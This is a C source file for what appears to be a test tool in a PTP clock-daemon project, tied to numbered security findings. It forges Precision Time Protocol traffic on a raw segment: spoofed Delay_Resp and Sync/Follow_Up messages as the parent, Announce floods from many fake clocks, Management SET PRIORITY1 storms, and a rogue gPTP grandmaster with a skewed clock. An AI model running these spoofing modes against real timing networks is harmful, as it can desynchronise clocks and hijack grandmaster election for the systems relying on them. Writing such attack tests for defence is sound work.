// SPDX-License-Identifier: GPL-2.0-or-later
/* Test tool: a host on the segment that forges PTP messages with ptp/msg's encoder (attack tests).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "ptp/msg.h"
#include "ptp/tlv.h"
#include "tool-raw.h"

static const char usage[] =
	"usage: tool-forge delay-resp IFNAME --parent ID:PORT --interval N[,N...] --count K\n"
	"                  [--timeout S]\n"
	"         answer each Delay_Req seen on IFNAME as the parent port, with "
	"logMessageInterval\n"
	"         N (the list in turn), K times; exit 1 if fewer came within S s (default 30)\n"
	"       tool-forge announce IFNAME --ids N --priority1 P [--class C] [--rate HZ]\n"
	"                  [--duration S] [--base ID] [--alternate P2]\n"
	"         Announces from N forged clocks (ID + i), each HZ times a second (default 4), "
	"for\n"
	"         S s (default 10, 0 until SIGTERM); every other one with priority1 P2\n"
	"       tool-forge sync IFNAME --parent ID:PORT --count K --t1 SEC[.NS] [--correction C]\n"
	"                  [--fup-correction C] [--timeout S]\n"
	"         after each Sync of the parent seen on IFNAME, a two-step Sync/Follow_Up pair as "
	"the\n"
	"         parent with the next sequenceId, preciseOriginTimestamp SEC.NS and the scaled\n"
	"         correctionFields C (Sync) and --fup-correction (Follow_Up), K times\n"
	"       tool-forge mgmt IFNAME --count K [--rate HZ] [--src-mac MAC] [--set-priority1 P]\n"
	"                  [--listen S] [--alternate P2]\n"
	"         K Management GET CLOCK_DESCRIPTION requests (or SET PRIORITY1 P) to all ports, "
	"HZ\n"
	"         a second (0: as fast as possible), from MAC (random unicast by default); then\n"
	"         S s (default 1) more listening; prints sent= answers= (answers of any sender);\n"
	"         with --alternate, every other SET sets P2\n"
	"       tool-forge gptp-master IFNAME [--rate-ppm R] [--csro N] [--priority1 P]\n"
	"                  [--duration S] [--base ID]\n"
	"         an 802.1AS neighbour and grandmaster ID whose clock runs R ppm off "
	"CLOCK_REALTIME:\n"
	"         answers Pdelay_Req (two-step), Announces once a second, Sync/Follow_Up 8 a "
	"second\n"
	"         with the Follow_Up information TLV's cumulativeScaledRateOffset N, for S s "
	"(default\n"
	"         10, 0 until SIGTERM); prints pdelay= sync=\n"
	"  ID: 16 hex digits (an EUI-64 clockIdentity).\n";

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	stop = 1;
}

static int64_t clock_ns(clockid_t c)
{
	struct timespec ts;

	clock_gettime(c, &ts);
	return (int64_t) ts.tv_sec * 1000000000 + ts.tv_nsec;
}

/* Send one PTP message from the interface's MAC to the PTP multicast address. */
static int sock_send(struct raw_sock *s, const struct msg *m)
{
	uint8_t frame[RAW_HDR_LEN + 512];
	ssize_t n = msg_build(m, frame + RAW_HDR_LEN, sizeof(frame) - RAW_HDR_LEN);
	int r;

	if (n < 0) {
		fprintf(stderr, "tool-forge: msg_build: %s\n", strerror((int) -n));
		return (int) n;
	}
	while ((r = raw_send(s, frame, (size_t) n, raw_ptp_mac, s->mac)) < 0) {
		if (r != -ENOBUFS && r != -EAGAIN) {
			fprintf(stderr, "tool-forge: sendto: %s\n", strerror(-r));
			return r;
		}
		usleep(100);
	}
	return 0;
}

/*
 * The next PTP message on the socket within timeout_ms, parsed; *outgoing says whether it left
 * this interface (a relay's or our own) rather than arrived. 0 on timeout, 1 for a message.
 */
static int sock_recv(struct raw_sock *s, int timeout_ms, struct msg *m, uint8_t *buf, size_t size,
		     bool *outgoing, uint8_t src_mac[6])
{
	struct pollfd pfd = { .fd = s->fd, .events = POLLIN };
	struct sockaddr_ll from;
	socklen_t flen = sizeof(from);
	ssize_t n;

	if (poll(&pfd, 1, timeout_ms) <= 0) {
		return 0;
	}
	n = recvfrom(s->fd, buf, size, MSG_DONTWAIT, (struct sockaddr *) &from, &flen);
	if (n < 14 || msg_parse(buf + 14, (size_t) n - 14, m) < 0) {
		return 0;
	}
	*outgoing = from.sll_pkttype == PACKET_OUTGOING;
	if (src_mac) {
		memcpy(src_mac, buf + 6, 6);
	}
	return 1;
}

struct opts {
	struct PortIdentity parent;
	bool have_parent;
	int intervals[16];
	size_t n_intervals;
	uint64_t count;
	double timeout, rate, duration, listen;
	unsigned ids;
	int priority1, clock_class, set_priority1;
	int alternate; /* >= 0: every other Announce or SET carries this priority1 instead */
	struct ClockIdentity base;
	bool have_base, have_src_mac;
	uint8_t src_mac[6];
	uint64_t t1_sec;
	uint32_t t1_ns;
	int64_t correction, fup_correction;
	double rate_ppm;
	int32_t csro;
};

/* Finding 1 of issue 17: only the parent's identity and the Delay_Req's sequenceId needed. */
static int do_delay_resp(const char *ifname, const struct opts *o)
{
	uint64_t forged = 0;
	int64_t deadline = clock_ns(CLOCK_MONOTONIC) + (int64_t) (o->timeout * 1e9);
	uint8_t buf[2048];
	struct raw_sock s;

	if (!o->have_parent || !o->n_intervals || raw_open("tool-forge", ifname, &s) < 0) {
		return 2;
	}
	printf("listening\n");
	fflush(stdout);
	while (forged < o->count && !stop && clock_ns(CLOCK_MONOTONIC) < deadline) {
		struct msg req, r;
		bool out;

		if (sock_recv(&s, 100, &req, buf, sizeof(buf), &out, NULL) <= 0 || out ||
		    req.hdr.messageType != MSG_DELAY_REQ) {
			continue;
		}
		memset(&r, 0, sizeof(r));
		msg_header_init(&r.hdr, MSG_DELAY_RESP, req.hdr.domainNumber, &o->parent,
				req.hdr.sequenceId);
		r.hdr.logMessageInterval = (int8_t) o->intervals[forged % o->n_intervals];
		r.hdr.correctionField = req.hdr.correctionField;
		r.body.delay_resp.requestingPortIdentity = req.hdr.sourcePortIdentity;
		int64_t now = clock_ns(CLOCK_REALTIME);
		r.body.delay_resp.receiveTimestamp.secondsField = (uint64_t) (now / 1000000000);
		r.body.delay_resp.receiveTimestamp.nanosecondsField = (uint32_t) (now % 1000000000);
		if (sock_send(&s, &r) < 0) {
			return 1;
		}
		forged++;
		printf("forged Delay_Resp seq %u interval %d\n", req.hdr.sequenceId,
		       r.hdr.logMessageInterval);
		fflush(stdout);
	}
	close(s.fd);
	printf("forged=%" PRIu64 "\n", forged);
	return forged == o->count ? 0 : 1;
}

/* Finding 6: a crowd of forged masters for the foreign master table. */
static int do_announce(const char *ifname, const struct opts *o)
{
	int64_t start = clock_ns(CLOCK_MONOTONIC), period = (int64_t) (1e9 / o->rate);
	uint64_t sent = 0;
	uint16_t seq = 0;
	struct raw_sock s;

	if (!o->have_base || !o->ids || raw_open("tool-forge", ifname, &s) < 0) {
		return 2;
	}
	for (int64_t next = start; !stop; next += period, seq++) {
		int64_t now = clock_ns(CLOCK_MONOTONIC);

		if (o->duration > 0 && now - start >= (int64_t) (o->duration * 1e9)) {
			break;
		}
		if (next > now) {
			struct timespec ts = { (next - now) / 1000000000,
					       (next - now) % 1000000000 };

			nanosleep(&ts, NULL);
		}
		for (unsigned i = 0; i < o->ids; i++) {
			struct PortIdentity src = { .clockIdentity = o->base, .portNumber = 1 };
			struct msg m;

			src.clockIdentity.id[7] = (uint8_t) (src.clockIdentity.id[7] + i);
			src.clockIdentity.id[6] = (uint8_t) (src.clockIdentity.id[6] + (i >> 8));
			memset(&m, 0, sizeof(m));
			msg_header_init(&m.hdr, MSG_ANNOUNCE, 0, &src, seq);
			m.hdr.logMessageInterval = -2;
			m.body.announce.currentUtcOffset = 37;
			m.body.announce.grandmasterPriority1 = (uint8_t) (o->alternate >= 0 &&
											  seq % 2
										  ? o->alternate
										  : o->priority1);
			m.body.announce.grandmasterClockQuality.clockClass = (uint8_t)
										     o->clock_class;
			m.body.announce.grandmasterClockQuality.clockAccuracy = 0xFE;
			m.body.announce.grandmasterClockQuality.offsetScaledLogVariance = 0xFFFF;
			m.body.announce.grandmasterPriority2 = 128;
			m.body.announce.grandmasterIdentity = src.clockIdentity;
			m.body.announce.timeSource = 0xA0;
			if (sock_send(&s, &m) < 0) {
				return 1;
			}
			sent++;
		}
	}
	close(s.fd);
	printf("sent=%" PRIu64 "\n", sent);
	return 0;
}

/* Finding 8: extreme but valid timestamps and corrections, as the parent. */
static int do_sync(const char *ifname, const struct opts *o)
{
	int64_t deadline = clock_ns(CLOCK_MONOTONIC) + (int64_t) (o->timeout * 1e9);
	uint64_t forged = 0;
	uint8_t buf[2048];
	struct raw_sock s;

	if (!o->have_parent || raw_open("tool-forge", ifname, &s) < 0) {
		return 2;
	}
	printf("listening\n");
	fflush(stdout);
	while (forged < o->count && !stop && clock_ns(CLOCK_MONOTONIC) < deadline) {
		struct msg sy, m;
		bool out;

		if (sock_recv(&s, 100, &sy, buf, sizeof(buf), &out, NULL) <= 0 ||
		    sy.hdr.messageType != MSG_SYNC ||
		    !port_identity_equal(&sy.hdr.sourcePortIdentity, &o->parent)) {
			continue;
		}
		/* The parent's next Sync, early: the real one then comes as a duplicate. */
		memset(&m, 0, sizeof(m));
		msg_header_init(&m.hdr, MSG_SYNC, sy.hdr.domainNumber, &o->parent,
				(uint16_t) (sy.hdr.sequenceId + 1));
		m.hdr.flagField = MSG_FLAG_TWO_STEP;
		m.hdr.logMessageInterval = sy.hdr.logMessageInterval;
		m.hdr.correctionField = o->correction;
		if (sock_send(&s, &m) < 0) {
			return 1;
		}
		memset(&m, 0, sizeof(m));
		msg_header_init(&m.hdr, MSG_FOLLOW_UP, sy.hdr.domainNumber, &o->parent,
				(uint16_t) (sy.hdr.sequenceId + 1));
		m.hdr.logMessageInterval = sy.hdr.logMessageInterval;
		m.hdr.correctionField = o->fup_correction;
		m.body.follow_up.preciseOriginTimestamp.secondsField = o->t1_sec;
		m.body.follow_up.preciseOriginTimestamp.nanosecondsField = o->t1_ns;
		if (sock_send(&s, &m) < 0) {
			return 1;
		}
		forged++;
	}
	close(s.fd);
	printf("forged=%" PRIu64 "\n", forged);
	return forged == o->count ? 0 : 1;
}

/* Issue 31, finding 1: the gptp-master's clock, R ppm off CLOCK_REALTIME since t0. */
static void gptp_time(const struct opts *o, int64_t t0, struct Timestamp *ret)
{
	int64_t now = clock_ns(CLOCK_REALTIME);

	ns_to_timestamp(t0 + (now - t0) + (int64_t) ((double) (now - t0) * o->rate_ppm * 1e-6),
			ret);
}

/* An 802.1AS message of the forged grandmaster (majorSdoId 1) to the peer-delay address. */
static int gptp_send(struct raw_sock *s, struct msg *m)
{
	uint8_t frame[RAW_HDR_LEN + 512];
	ssize_t n;
	int r;

	m->hdr.majorSdoId = 1;
	n = msg_build(m, frame + RAW_HDR_LEN, sizeof(frame) - RAW_HDR_LEN);
	if (n < 0) {
		return (int) n;
	}
	while ((r = raw_send(s, frame, (size_t) n, raw_pdelay_mac, s->mac)) < 0) {
		if (r != -ENOBUFS && r != -EAGAIN) {
			return r;
		}
		usleep(100);
	}
	return 0;
}

/* Answer one Pdelay_Req as a two-step responder: t2 in the Pdelay_Resp, t3 after it. */
static int gptp_pdelay(struct raw_sock *s, const struct opts *o, int64_t t0,
		       const struct PortIdentity *me, const struct msg *req)
{
	struct msg m;
	int r;

	memset(&m, 0, sizeof(m));
	msg_header_init(&m.hdr, MSG_PDELAY_RESP, req->hdr.domainNumber, me, req->hdr.sequenceId);
	m.hdr.flagField = MSG_FLAG_TWO_STEP;
	m.hdr.logMessageInterval = 0x7F;
	gptp_time(o, t0, &m.body.pdelay_resp.requestReceiptTimestamp);
	m.body.pdelay_resp.requestingPortIdentity = req->hdr.sourcePortIdentity;
	r = gptp_send(s, &m);
	if (r < 0) {
		return r;
	}
	memset(&m, 0, sizeof(m));
	msg_header_init(&m.hdr, MSG_PDELAY_RESP_FOLLOW_UP, req->hdr.domainNumber, me,
			req->hdr.sequenceId);
	m.hdr.logMessageInterval = 0x7F;
	gptp_time(o, t0, &m.body.pdelay_resp_follow_up.responseOriginTimestamp);
	m.body.pdelay_resp_follow_up.requestingPortIdentity = req->hdr.sourcePortIdentity;
	return gptp_send(s, &m);
}

static int gptp_announce(struct raw_sock *s, const struct opts *o, const struct PortIdentity *me,
			 uint16_t seq)
{
	struct msg m;

	memset(&m, 0, sizeof(m));
	msg_header_init(&m.hdr, MSG_ANNOUNCE, 0, me, seq);
	m.hdr.flagField = MSG_FLAG_PTP_TIMESCALE;
	m.hdr.logMessageInterval = 0;
	m.body.announce.currentUtcOffset = 37;
	m.body.announce.grandmasterPriority1 = (uint8_t) o->priority1;
	m.body.announce.grandmasterClockQuality.clockClass = (uint8_t) o->clock_class;
	m.body.announce.grandmasterClockQuality.clockAccuracy = 0xFE;
	m.body.announce.grandmasterClockQuality.offsetScaledLogVariance = 0xFFFF;
	m.body.announce.grandmasterPriority2 = 128;
	m.body.announce.grandmasterIdentity = me->clockIdentity;
	m.body.announce.timeSource = 0xA0;
	return gptp_send(s, &m);
}

/* A two-step Sync, then its Follow_Up with the information TLV carrying o->csro. */
static int gptp_sync(struct raw_sock *s, const struct opts *o, int64_t t0,
		     const struct PortIdentity *me, uint16_t seq)
{
	struct tlv_follow_up_info f = { .cumulativeScaledRateOffset = o->csro };
	struct tlv_builder b;
	uint8_t tlv[64];
	struct msg m;
	int r;

	memset(&m, 0, sizeof(m));
	msg_header_init(&m.hdr, MSG_SYNC, 0, me, seq);
	m.hdr.flagField = MSG_FLAG_TWO_STEP | MSG_FLAG_PTP_TIMESCALE;
	m.hdr.logMessageInterval = -3;
	gptp_time(o, t0, &m.body.sync.originTimestamp);
	r = gptp_send(s, &m);
	if (r < 0) {
		return r;
	}
	memset(&m, 0, sizeof(m));
	msg_header_init(&m.hdr, MSG_FOLLOW_UP, 0, me, seq);
	m.hdr.flagField = MSG_FLAG_PTP_TIMESCALE;
	m.hdr.logMessageInterval = -3;
	gptp_time(o, t0, &m.body.follow_up.preciseOriginTimestamp);
	tlv_builder_init(&b, tlv, sizeof(tlv));
	if (tlv_builder_add_follow_up_info(&b, &f) < 0) {
		return -EMSGSIZE;
	}
	m.tlv = tlv;
	m.tlv_len = tlv_builder_len(&b);
	return gptp_send(s, &m);
}

/*
 * Issue 31, finding 1: a whole 802.1AS neighbour that is also the grandmaster, its clock off by
 * rate_ppm (the neighborRateRatio phcd measures), its Follow_Ups carrying csro: together they
 * reach any combined rate ratio.
 */
static int do_gptp_master(const char *ifname, const struct opts *o)
{
	const int64_t sync_ns = 125000000, announce_ns = 1000000000;
	int64_t start = clock_ns(CLOCK_MONOTONIC), t0 = clock_ns(CLOCK_REALTIME);
	int64_t next_sync = start, next_announce = start;
	struct PortIdentity me = { .clockIdentity = o->base, .portNumber = 1 };
	uint64_t pdelays = 0, syncs = 0;
	uint16_t seq_sync = 0, seq_announce = 0;
	uint8_t buf[2048];
	struct raw_sock s;

	if (raw_open("tool-forge", ifname, &s) < 0) {
		return 2;
	}
	while (!stop) {
		int64_t now = clock_ns(CLOCK_MONOTONIC), wait;
		struct msg req;
		bool out;

		if (o->duration > 0 && now - start >= (int64_t) (o->duration * 1e9)) {
			break;
		}
		if (now >= next_announce) {
			if (gptp_announce(&s, o, &me, seq_announce++) < 0) {
				return 1;
			}
			next_announce += announce_ns;
		}
		if (now >= next_sync) {
			if (gptp_sync(&s, o, t0, &me, seq_sync++) < 0) {
				return 1;
			}
			syncs++;
			next_sync += sync_ns;
		}
		wait = (next_sync < next_announce ? next_sync : next_announce) - now;
		if (sock_recv(&s, wait > 0 ? (int) (wait / 1000000) : 0, &req, buf, sizeof(buf),
			      &out, NULL) > 0 &&
		    !out && req.hdr.messageType == MSG_PDELAY_REQ) {
			if (gptp_pdelay(&s, o, t0, &me, &req) < 0) {
				return 1;
			}
			pdelays++;
		}
	}
	close(s.fd);
	printf("pdelay=%" PRIu64 " sync=%" PRIu64 "\n", pdelays, syncs);
	return 0;
}

/* Finding 9: a Management GET (or SET PRIORITY1) to every port, over and over. */
static ssize_t build_mgmt(uint8_t *buf, size_t size, const struct PortIdentity *src, uint16_t seq,
			  int set_priority1)
{
	uint8_t tlvs[16], prio[2] = { (uint8_t) set_priority1, 0 };
	struct tlv_builder b;
	struct msg m;

	memset(&m, 0, sizeof(m));
	msg_header_init(&m.hdr, MSG_MANAGEMENT, 0, src, seq);
	/* 15.4.1: to every port of every clock, one hop. */
	memset(&m.body.management.targetPortIdentity, 0xFF,
	       sizeof(m.body.management.targetPortIdentity));
	m.body.management.startingBoundaryHops = 1;
	m.body.management.boundaryHops = 1;
	tlv_builder_init(&b, tlvs, sizeof(tlvs));
	/* 15.5.3: CLOCK_DESCRIPTION (0x0001) GET, or PRIORITY1 (0x2005) SET. */
	if (set_priority1 >= 0) {
		m.body.management.actionField = MSG_MANAGEMENT_SET;
		if (tlv_builder_add_management(&b, 0x2005, prio, sizeof(prio)) < 0) {
			return -EMSGSIZE;
		}
	} else {
		m.body.management.actionField = MSG_MANAGEMENT_GET;
		if (tlv_builder_add_management(&b, 0x0001, NULL, 0) < 0) {
			return -EMSGSIZE;
		}
	}
	m.tlv = tlvs;
	m.tlv_len = tlv_builder_len(&b);
	return msg_build(&m, buf, size);
}

static int do_mgmt(const char *ifname, const struct opts *o)
{
	int64_t start = clock_ns(CLOCK_MONOTONIC), end = start + (int64_t) (o->listen * 1e9);
	uint64_t sent = 0, answers = 0;
	uint8_t mac[6], frame[RAW_HDR_LEN + 512], buf[2048];
	struct PortIdentity src = { .portNumber = 1 };
	struct raw_sock s;

	if (raw_open("tool-forge", ifname, &s) < 0) {
		return 2;
	}
	if (o->have_src_mac) {
		memcpy(mac, o->src_mac, 6);
	} else {
		srand((unsigned) getpid());
		for (int i = 0; i < 6; i++) {
			mac[i] = (uint8_t) rand();
		}
		mac[0] = (uint8_t) ((mac[0] & 0xFE) | 0x02);
	}
	/* Our clockIdentity from that MAC (EUI-48 -> EUI-64), so answers are ours to count. */
	memcpy(src.clockIdentity.id, mac, 3);
	src.clockIdentity.id[3] = 0xFF;
	src.clockIdentity.id[4] = 0xFE;
	memcpy(src.clockIdentity.id + 5, mac + 3, 3);
	while (!stop) {
		int64_t now = clock_ns(CLOCK_MONOTONIC);
		struct msg m;
		bool out;

		if (sent < o->count &&
		    (o->rate <= 0 || now >= start + (int64_t) ((double) sent * 1e9 / o->rate))) {
			ssize_t n = build_mgmt(frame + RAW_HDR_LEN, sizeof(frame) - RAW_HDR_LEN,
					       &src, (uint16_t) sent,
					       o->alternate >= 0 && sent % 2 ? o->alternate
									     : o->set_priority1);
			int r;

			if (n < 0) {
				return 1;
			}
			r = raw_send(&s, frame, (size_t) n, raw_ptp_mac, mac);
			if (r < 0) {
				if (r != -ENOBUFS && r != -EAGAIN) {
					fprintf(stderr, "tool-forge: sendto: %s\n", strerror(-r));
					return 1;
				}
			} else {
				sent++;
			}
			if (sent == o->count) {
				end = clock_ns(CLOCK_MONOTONIC) + (int64_t) (o->listen * 1e9);
			}
			/* Drain what came meanwhile, without waiting. */
			while (sock_recv(&s, 0, &m, buf, sizeof(buf), &out, NULL) > 0) {
				answers += !out && m.hdr.messageType == MSG_MANAGEMENT &&
					   !clock_identity_equal(
						   &m.hdr.sourcePortIdentity.clockIdentity,
						   &src.clockIdentity);
			}
			continue;
		}
		if (sent == o->count && now >= end) {
			break;
		}
		if (sock_recv(&s, 10, &m, buf, sizeof(buf), &out, NULL) > 0) {
			answers += !out && m.hdr.messageType == MSG_MANAGEMENT &&
				   !clock_identity_equal(&m.hdr.sourcePortIdentity.clockIdentity,
							 &src.clockIdentity);
		}
	}
	close(s.fd);
	printf("sent=%" PRIu64 " answers=%" PRIu64 " seconds=%.3f\n", sent, answers,
	       (double) (clock_ns(CLOCK_MONOTONIC) - start) / 1e9);
	return 0;
}

static int parse_mac(const char *s, uint8_t mac[6])
{
	unsigned v[6];

	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) {
		return -EINVAL;
	}
	for (int i = 0; i < 6; i++) {
		mac[i] = (uint8_t) v[i];
	}
	return 0;
}

static int parse_opts(int argc, char **argv, struct opts *o)
{
	for (int i = 3; i < argc; i += 2) {
		const char *k = argv[i], *v = i + 1 < argc ? argv[i + 1] : NULL;

		if (!v) {
			return -EINVAL;
		}
		if (!strcmp(k, "--parent")) {
			if (raw_parse_port_id(v, &o->parent) < 0) {
				return -EINVAL;
			}
			o->have_parent = true;
		} else if (!strcmp(k, "--interval")) {
			char *dup = strdup(v), *save = NULL;

			for (char *t = strtok_r(dup, ",", &save); t && o->n_intervals < 16;
			     t = strtok_r(NULL, ",", &save)) {
				o->intervals[o->n_intervals++] = atoi(t);
			}
			free(dup);
		} else if (!strcmp(k, "--count")) {
			o->count = strtoull(v, NULL, 0);
		} else if (!strcmp(k, "--timeout")) {
			o->timeout = atof(v);
		} else if (!strcmp(k, "--ids")) {
			o->ids = (unsigned) strtoul(v, NULL, 0);
		} else if (!strcmp(k, "--priority1")) {
			o->priority1 = atoi(v);
		} else if (!strcmp(k, "--class")) {
			o->clock_class = atoi(v);
		} else if (!strcmp(k, "--rate")) {
			o->rate = atof(v);
		} else if (!strcmp(k, "--duration")) {
			o->duration = atof(v);
		} else if (!strcmp(k, "--listen")) {
			o->listen = atof(v);
		} else if (!strcmp(k, "--base")) {
			if (raw_parse_clock_id(v, &o->base) < 0) {
				return -EINVAL;
			}
			o->have_base = true;
		} else if (!strcmp(k, "--src-mac")) {
			if (parse_mac(v, o->src_mac) < 0) {
				return -EINVAL;
			}
			o->have_src_mac = true;
		} else if (!strcmp(k, "--alternate")) {
			o->alternate = atoi(v);
		} else if (!strcmp(k, "--set-priority1")) {
			o->set_priority1 = atoi(v);
		} else if (!strcmp(k, "--t1")) {
			char *dot;

			o->t1_sec = strtoull(v, &dot, 0);
			o->t1_ns = *dot == '.' ? (uint32_t) strtoul(dot + 1, NULL, 10) : 0;
		} else if (!strcmp(k, "--correction")) {
			o->correction = strtoll(v, NULL, 0);
		} else if (!strcmp(k, "--fup-correction")) {
			o->fup_correction = strtoll(v, NULL, 0);
		} else if (!strcmp(k, "--rate-ppm")) {
			o->rate_ppm = atof(v);
		} else if (!strcmp(k, "--csro")) {
			o->csro = (int32_t) strtol(v, NULL, 0);
		} else {
			return -EINVAL;
		}
	}
	return 0;
}

int main(int argc, char **argv)
{
	struct sigaction sa = { .sa_handler = on_signal };
	struct opts o = {
		.timeout = 30,
		.rate = 4,
		.duration = 10,
		.listen = 1,
		.priority1 = 128,
		.clock_class = 248,
		.set_priority1 = -1,
		.alternate = -1,
	};

	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	if (argc < 3 || parse_opts(argc, argv, &o) < 0) {
		fputs(usage, stderr);
		return 2;
	}
	/* Default base identity for announce: a locally administered one. */
	if (!o.have_base) {
		raw_parse_clock_id("02aaaafffe000000", &o.base);
		o.have_base = true;
	}
	if (!strcmp(argv[1], "delay-resp")) {
		return do_delay_resp(argv[2], &o);
	}
	if (!strcmp(argv[1], "announce")) {
		return do_announce(argv[2], &o);
	}
	if (!strcmp(argv[1], "sync")) {
		return do_sync(argv[2], &o);
	}
	if (!strcmp(argv[1], "gptp-master")) {
		return do_gptp_master(argv[2], &o);
	}
	if (!strcmp(argv[1], "mgmt")) {
		return do_mgmt(argv[2], &o);
	}
	fputs(usage, stderr);
	return 2;
}
